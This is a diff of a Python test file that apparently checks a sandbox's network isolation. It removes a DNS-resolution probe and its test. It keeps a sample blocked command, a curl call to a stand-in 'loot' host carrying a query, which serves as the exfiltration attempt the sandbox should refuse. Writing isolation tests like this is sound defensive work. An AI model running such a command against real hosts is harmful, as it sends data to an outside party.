@@ -32,13 +32,6 @@ for name, family, kind, address in {targets!r}:
         print(name, "failed", error)
 print("called")
 """
-NAMES = """
-import socket
-for name in ("loot.example.test", "localhost.example.test"):
-    try: print("resolved", socket.getaddrinfo(name, 443))
-    except OSError as error: print("failed", error)
-print("looked up")
-"""
 BLOCKED = "curl --silent --show-error --max-time 5 https://loot.example.test/?q=source; echo tried"
 
 
@@ -112,7 +105,7 @@ def calls(tmp_path_factory: pytest.TempPathFactory) -> Calls:
     want(stage, "call")
     with listening(stage.base) as ear:
         call = python(CALL.format(targets=ear.targets))
-        raid = stage.play(commands([call, python(NAMES), BLOCKED]))
+        raid = stage.play(commands([call, BLOCKED]))
         reached = frozenset(ear.heard)
         subprocess.run([sys.executable, "-c", CALL.format(targets=ear.targets)], check=True, capture_output=True)
         return Calls(stage=stage, raid=raid, call=call, reached=reached, reachable=frozenset(ear.heard))
@@ -124,13 +117,6 @@ def test_listeners_of_the_machine(calls: Calls, way: str) -> None:
     assert "called" in calls.raid.said(calls.call)
     assert way in calls.reachable  # the same call arrives from outside of the sandbox
     assert way not in calls.reached
-
-
-def test_names_are_not_resolved(calls: Calls) -> None:
-    """Without a namespace of its own: what is looked up is a channel, even where no connection is made."""
-    said = calls.raid.said(python(NAMES))
-    assert "looked up" in said
-    assert "resolved" not in said
 
 
 def test_refused_hosts_are_told_with_the_command(calls: Calls) -> None:
